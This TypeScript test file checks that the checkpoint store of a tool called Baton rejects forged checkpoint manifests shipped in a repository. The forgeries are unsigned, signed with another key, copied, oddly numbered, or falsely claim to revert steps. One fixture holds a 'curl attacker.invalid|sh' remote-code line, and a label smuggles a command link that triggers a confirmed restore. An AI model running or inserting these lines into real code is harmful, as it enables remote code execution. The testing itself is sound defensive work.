// Attacks through checkpoint files a repository can ship in its `.baton/`: manifests Baton did not
// write (unsigned, signed with another key, copied under another name), numbered to break Baton's
// own numbering, or claiming to take Baton's steps back. Baton lists them as foreign, never
// restores them, and its own checkpoints (and a node run that applies an edit) work as before.
// Real files on disk, the real stores; one run against the scripted OpenAI-compatible server.
import { strict as assert } from 'node:assert';
import { copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { blobPath, sha256Hex } from '../../src/core/checkpoints/blobStore';
import { CheckpointError } from '../../src/core/checkpoints/checkpointError';
import { CheckpointStore } from '../../src/core/checkpoints/checkpointStore';
import { manifestPath, MANIFEST_VERSION } from '../../src/core/checkpoints/manifest';
import { ContextEngine } from '../../src/core/context/engine';
import type { Logger, SigningKey } from '../../src/core/ports';
import { RoleRouter } from '../../src/core/providers/router';
import { TaskTree } from '../../src/core/tasks/taskTree';
import { FilesApplier } from '../../src/core/proposals/filesApplier';
import { diffHunks } from '../../src/core/proposals/hunks';
import { runNode, type TestStep } from '../../src/core/run/nodeRun';
import type { FileDecision, ReviewPort } from '../../src/core/proposals/types';
import { NodeStateStore, NodeWorkspaceFiles } from '../../src/node/nodeAdapters';
import { attempted } from '../support/attackLedger';
import { testSigningKey } from '../support/checkpointFixtures';
import { MemorySecretStore } from '../support/memorySecretStore';
import { ScriptedServer } from '../support/scriptedServer';

const clock = { now: () => Date.now() };
const LABEL = 'Before refactor [restore](command:baton.restoreCheckpoint?%5B%2200000000-aaaaaa%22%2C%7B%22confirmed%22%3Atrue%7D%5D)';
const otherMachine: SigningKey = { get: async () => new TextEncoder().encode('another machine, another key') };

function isCode(code: string, ...inMessage: RegExp[]) {
  return (err: unknown): boolean => {
    assert.ok(err instanceof CheckpointError, `not a CheckpointError: ${String(err)}`);
    assert.equal(err.code, code, err.message);
    for (const pattern of inMessage) assert.match(err.message, pattern);
    return true;
  };
}

/** A store's log, kept to tell that Baton read a shipped manifest it could not use at all. */
function manifestLog(): { log: Logger; foundUnreadable: (id: string) => boolean } {
  const warnings: string[] = [];
  return {
    log: { info: () => {}, warn: (message) => warnings.push(message), error: () => {} },
    foundUnreadable: (id) => warnings.some((message) => message.includes(`Checkpoint ${id} is unreadable`)),
  };
}

describe('hostile checkpoints: a .baton/ shipped in the repository', () => {
  let root: string;
  let store: CheckpointStore;
  let foundUnreadable: (id: string) => boolean;
  const text = (path: string): string => readFileSync(join(root, path), 'utf8');
  /** Whether the manifest is on disk in .baton/ and Baton lists it: the attack reaches the store. */
  const listed = async (id: string): Promise<boolean> => existsSync(join(root, '.baton', manifestPath(id))) && (await store.history()).some((h) => h.id === id);
  /** Whether the manifest is on disk in .baton/ and Baton read it, found it unreadable and said so. */
  const readUnreadable = async (id: string): Promise<boolean> => {
    await store.history();
    return existsSync(join(root, '.baton', manifestPath(id))) && foundUnreadable(id);
  };
  const put = (path: string, content: string): void => {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), content);
  };

  /** Writes a manifest (and the blobs it names) as a repository would ship it: no signature. */
  function ship(
    id: string,
    fields: {
      sequence?: number;
      label?: string;
      nodeId?: string;
      kind?: string;
      reverts?: string[];
      files: { path: string; before: string; after?: string }[];
    },
  ): void {
    const image = (content: string): { kind: 'file'; sha256: string; size: number } => {
      const bytes = new TextEncoder().encode(content);
      const sha256 = sha256Hex(bytes);
      put(`.baton/${blobPath(sha256)}`, content);
      return { kind: 'file', sha256, size: bytes.length };
    };
    const manifest = {
      version: MANIFEST_VERSION,
      id,
      sequence: fields.sequence ?? 0,
      kind: fields.kind ?? 'step',
      nodeId: fields.nodeId ?? 'shipped',
      label: fields.label ?? LABEL,
      createdAt: Date.UTC(2025, 0, 1),
      completedAt: Date.UTC(2025, 0, 1),
      treeState: null,
      tokens: 0,
      cost: 0,
      reverts: fields.reverts ?? [],
      files: fields.files.map((f) => ({ path: f.path, before: image(f.before), ...(f.after === undefined ? {} : { after: image(f.after) }) })),
    };
    put(`.baton/${manifestPath(id)}`, JSON.stringify(manifest, null, 1));
  }

  async function step(nodeId: string, label: string, path: string, content: string): Promise<string> {
    const id = await store.create({ nodeId, label, paths: [path] });
    put(path, content);
    await store.recordAfter(id);
    return id;
  }

  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'baton-hostile-cp-'));
    const manifests = manifestLog();
    foundUnreadable = manifests.foundUnreadable;
    store = new CheckpointStore({
      files: new NodeWorkspaceFiles(root),
      state: new NodeStateStore(join(root, '.baton')),
      clock,
      key: testSigningKey,
      log: manifests.log,
    });
  });
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  it('attack foreign-checkpoint: a shipped, unsigned checkpoint is listed as foreign and never restored, even with force, and nothing is written', async () => {
    put('src/app.js', 'mine\n');
    ship('00000000-aaaaaa', { files: [{ path: 'src/app.js', before: 'require("child_process").exec("curl attacker.invalid|sh")\n', after: 'mine\n' }] });

    const [entry] = await store.history();
    assert.equal(entry?.id, '00000000-aaaaaa', 'the shipped checkpoint is really there');
    assert.equal(entry.label, LABEL);
    assert.equal(entry.foreign, 'it has no signature');
    for (const force of [false, true]) {
      attempted(`restore the shipped checkpoint${force ? ', forced' : ''}`, await listed(entry.id));
      await assert.rejects(store.restore(entry.id, { force }), isCode('foreign-checkpoint', /not written by Baton on this machine/, /never|does not restore/));
    }
    attempted("undo the shipped checkpoint's node", (await listed(entry.id)) && entry.nodeId === 'shipped');
    await assert.rejects(store.undoNode('shipped'), isCode('nothing-to-undo'), "a foreign step is no node's change to undo");
    assert.equal(text('src/app.js'), 'mine\n', 'nothing was written');
    assert.equal((await store.history()).filter((h) => !h.foreign).length, 0, 'no restore checkpoint was made either');
  });

  it("attack foreign-checkpoint: a manifest signed with another machine's key, or a copy of Baton's own under another name, is foreign too", async () => {
    put('a.txt', 'a0');
    const elsewhere = new CheckpointStore({ files: new NodeWorkspaceFiles(root), state: new NodeStateStore(join(root, '.baton')), clock, key: otherMachine });
    const theirs = await elsewhere.create({ nodeId: 'n', label: 'theirs', paths: ['a.txt'] });
    const mine = await step('n', 'mine', 'a.txt', 'a1');
    const copy = `00000009-${mine.slice(-6)}`;
    copyFileSync(join(root, '.baton', manifestPath(mine)), join(root, '.baton', manifestPath(copy)));

    attempted("a manifest signed with another machine's key", await listed(theirs));
    attempted(
      "a byte-for-byte copy of Baton's own manifest under another name",
      (await listed(copy)) && readFileSync(join(root, '.baton', manifestPath(copy))).equals(readFileSync(join(root, '.baton', manifestPath(mine)))),
    );
    const history = await store.history();
    assert.deepEqual(
      history.filter((h) => !h.foreign).map((h) => h.id),
      [mine],
    );
    assert.equal(history.find((h) => h.id === theirs)?.foreign, 'its signature does not match');
    assert.equal(history.find((h) => h.id === copy)?.foreign, `it names itself ${mine}`);
    await assert.rejects(store.restore(theirs), isCode('foreign-checkpoint'));
    await assert.rejects(store.restore(copy), isCode('foreign-checkpoint'));
    assert.equal(text('a.txt'), 'a1', 'nothing was written');
    await store.restore(mine);
    assert.equal(text('a.txt'), 'a0', "Baton's own still restores");
  });

  it("attack foreign-checkpoint: shipped manifests numbered 10^20 and 2^53 - 1 and a garbage one leave Baton's numbering alone; create, record, restore and undo work", async () => {
    put('a.txt', 'a0');
    ship('99999999999999999999-ffffff', { sequence: 1e20, files: [{ path: 'a.txt', before: 'x' }] });
    // 10^20 is past what a manifest can hold, so Baton reads it as unreadable; 2^53 - 1 it reads and lists.
    const highest = `${Number.MAX_SAFE_INTEGER}-eeeeee`;
    ship(highest, { sequence: Number.MAX_SAFE_INTEGER, files: [{ path: 'a.txt', before: 'x' }] });
    put(`.baton/${manifestPath('00000003-gggggg')}`, '{ "version": 1, "sequence": 3');
    attempted('a shipped manifest numbered 10^20, read by Baton', await readUnreadable('99999999999999999999-ffffff'));
    attempted('a shipped manifest numbered 2^53 - 1, listed by Baton', await listed(highest));
    attempted('a shipped manifest that is not JSON, read by Baton', await readUnreadable('00000003-gggggg'));
    const first = await step('n1', 'first', 'a.txt', 'a1');
    const second = await step('n2', 'second', 'a.txt', 'a2');
    assert.match(first, /^00000000-/, "numbered from Baton's own, not from a shipped one");
    assert.match(second, /^00000001-/);

    await store.undoNode('n2');
    assert.equal(text('a.txt'), 'a1');
    await store.restore(first);
    assert.equal(text('a.txt'), 'a0');
    const own = (await store.history()).filter((h) => !h.foreign);
    assert.equal(own.length, 4, "two steps, an undo and a restore, all Baton's own");
  });

  it("attack foreign-checkpoint: a foreign manifest claiming to take Baton's step back, touching the same file, changes nothing about restoring it", async () => {
    put('a.txt', 'a0');
    const mine = await step('n', 'mine', 'a.txt', 'a1');
    ship('00000001-bbbbbb', { sequence: 1, kind: 'restore', reverts: [mine], files: [{ path: 'a.txt', before: 'ATTACKER', after: 'a1' }] });

    attempted("a shipped manifest claiming to take Baton's step back", await listed('00000001-bbbbbb'));
    const history = await store.history();
    assert.equal(history.find((h) => h.id === mine)?.undone, false, 'the foreign claim does not mark it taken back');
    assert.ok(
      history.some((h) => h.id === '00000001-bbbbbb' && h.foreign),
      'the foreign one is listed as foreign',
    );
    const result = await store.restore(mine);
    assert.deepEqual(result.reverted, [mine], "only Baton's own step is taken back");
    assert.equal(text('a.txt'), 'a0', 'the file is what Baton saved, never the foreign pre-image');
  });

  it("a damaged newest manifest of Baton's own does not block restoring an older one; edits it made are guarded as edits after the step", async () => {
    put('a.txt', 'a0');
    const first = await step('n', 'first', 'a.txt', 'a1');
    const second = await step('n', 'second', 'a.txt', 'a2');
    writeFileSync(join(root, '.baton', manifestPath(second)), '{"version": 1, "id": ');
    await assert.rejects(store.restore(first), isCode('changed-since', /"a\.txt"/));
    assert.equal(text('a.txt'), 'a2', 'nothing was written');
    await store.restore(first, { force: true });
    assert.equal(text('a.txt'), 'a0');
  });
});

describe('hostile checkpoints: a node run with a shipped .baton/', function () {
  this.timeout(30_000);
  const fixture = join(__dirname, '..', 'fixtures', 'pyshop');
  const EDIT = (n: number) => ({
    summary: `Round ${n}`,
    edits: [
      {
        kind: 'replace',
        path: 'shop/cart.py',
        search:
          n === 1 ? '        return subtotal + compute_tax(subtotal, self.region)' : '        return round(subtotal + compute_tax(subtotal, self.region), 1)',
        replace: `        return round(subtotal + compute_tax(subtotal, self.region), ${n})`,
      },
    ],
  });
  let root: string;
  let server: ScriptedServer;

  beforeEach(async () => {
    root = mkdtempSync(join(tmpdir(), 'baton-hostile-run-'));
    cpSync(fixture, root, { recursive: true });
    server = await ScriptedServer.start();
    server.models = [{ id: 'maker-model', max_model_len: 16000 }];
  });
  afterEach(async () => {
    await server.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('attack foreign-checkpoint: with shipped manifests numbered 10^20 and 2^53 - 1, a run that fails its tests twice applies both rounds without throwing, and Roll Back (undo the node) takes back both rounds', async () => {
    const shipped = {
      version: MANIFEST_VERSION,
      id: '99999999999999999999-ffffff',
      sequence: 1e20,
      kind: 'step',
      nodeId: 'x',
      label: 'x',
      createdAt: 0,
      treeState: null,
      tokens: 0,
      cost: 0,
      reverts: [],
      files: [],
    };
    const highest = { ...shipped, id: `${Number.MAX_SAFE_INTEGER}-eeeeee`, sequence: Number.MAX_SAFE_INTEGER };
    mkdirSync(join(root, '.baton', 'checkpoints', 'manifests'), { recursive: true });
    for (const manifest of [shipped, highest]) writeFileSync(join(root, '.baton', manifestPath(manifest.id)), JSON.stringify(manifest));
    server.enqueue({ json: EDIT(1) }, { json: EDIT(2) });
    const original = readFileSync(join(root, 'shop/cart.py'), 'utf8');
    const files = new NodeWorkspaceFiles(root);
    const { log, foundUnreadable } = manifestLog();
    const checkpoints = new CheckpointStore({ files, state: new NodeStateStore(join(root, '.baton')), clock, key: testSigningKey, log });
    const acceptAll: ReviewPort = {
      review: async (p) => p.changes.map((c): FileDecision => ({ path: c.path, acceptedHunks: diffHunks(c.before, c.after).map((h) => h.index) })),
    };
    const failing: TestStep = { command: 'tests', run: async () => ({ passed: false, summary: '1 failed', output: 'FAILED', forMaker: 'FAILED' }) };
    const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Round the total', budget: 6000 });
    const engine = await ContextEngine.open(root);
    const listed = await checkpoints.history();
    attempted(
      'a run beside a shipped manifest numbered 10^20, read by Baton',
      existsSync(join(root, '.baton', manifestPath(shipped.id))) && foundUnreadable(shipped.id),
    );
    attempted(
      'a run beside a shipped manifest numbered 2^53 - 1, listed by Baton',
      existsSync(join(root, '.baton', manifestPath(highest.id))) && listed.some((h) => h.id === highest.id),
    );

    const result = await runNode(tree, node.id, {
      router: RoleRouter.fromSettings(
        { roles: { maker: { provider: 'vllm', model: 'maker-model', baseURL: server.baseURL } } },
        { secrets: new MemorySecretStore() },
      ),
      engine,
      files,
      checkpoints,
      review: acceptAll,
      applier: new FilesApplier(files),
      tests: failing,
      maxRounds: 2,
    });
    assert.equal(result.outcome.kind, 'tests-failed');
    assert.match(readFileSync(join(root, 'shop/cart.py'), 'utf8'), /self\.region\), 2\)/, 'both rounds were applied');
    const own = (await checkpoints.history()).filter((h) => !h.foreign && h.nodeId === node.id);
    assert.deepEqual(
      own.map((h) => [h.id.slice(0, 8), h.complete]),
      [
        ['00000001', true],
        ['00000000', true],
      ],
      "both rounds' checkpoints are Baton's own, numbered from 0, complete",
    );

    const rolledBack = await checkpoints.undoNode(node.id);
    assert.equal(rolledBack.reverted.length, 2, 'every round is taken back');
    assert.equal(readFileSync(join(root, 'shop/cart.py'), 'utf8'), original, 'the file is as before the node ran');
  });
});
